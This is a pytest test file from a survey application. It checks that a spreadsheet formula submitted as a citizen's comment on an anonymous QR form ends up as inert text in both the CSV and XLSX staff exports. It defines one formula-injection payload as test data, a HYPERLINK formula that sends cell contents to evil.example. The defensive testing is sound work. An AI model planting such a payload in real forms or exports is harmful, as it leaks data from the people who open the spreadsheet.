"""The formula-injection attack end to end (issue 10 §5): a citizen types a formula as the
comment of the anonymous QR form; the staff download the export; the cell is words, not a
formula, in the CSV (a quote in front) and in the XLSX (an inline string)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from conftest import sipas_answers
from hailong.surveys.models import Response

pytestmark = pytest.mark.usefixtures("campaign")

ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Xem chi tiết")'


def sent_on_the_qr_form(client, org, comment: str) -> Response:
    data = {f"q_{code}": value for code, value in sipas_answers().items()}
    data.update({"service": "1.001193", "q_YK": comment, "contact_name": "", "contact_phone": ""})
    answer = client.post(f"/danh-gia/{org.point_a.code}/", data)
    assert answer.status_code == 302
    return Response.objects.get()


def download(client, query: str) -> bytes:
    answer = client.get(f"/surveys/responses/export/{query}")
    assert answer.status_code == 200
    return b"".join(answer.streaming_content)


def test_a_formula_typed_on_the_qr_form_is_words_in_both_exports(
    client, client_for, secretary, org
):
    response = sent_on_the_qr_form(client, org, ATTACK)
    staff = client_for(secretary)

    rows = list(csv.reader(io.StringIO(download(staff, "").decode("utf-8-sig"))))
    column = rows[0].index("YK")
    assert [(row[0], row[column]) for row in rows[2:]] == [(f"hl-{response.pk}", "'" + ATTACK)]

    book = load_workbook(io.BytesIO(download(staff, "?format=xlsx")))
    sheet = book.worksheets[0]
    heading = [cell.value for cell in sheet[1]]
    cell = sheet.cell(row=3, column=heading.index("YK") + 1)
    assert (cell.value, cell.data_type) == (ATTACK, "s")
    assert sheet.cell(row=3, column=1).value == f"hl-{response.pk}"
    assert sheet.max_row == 3
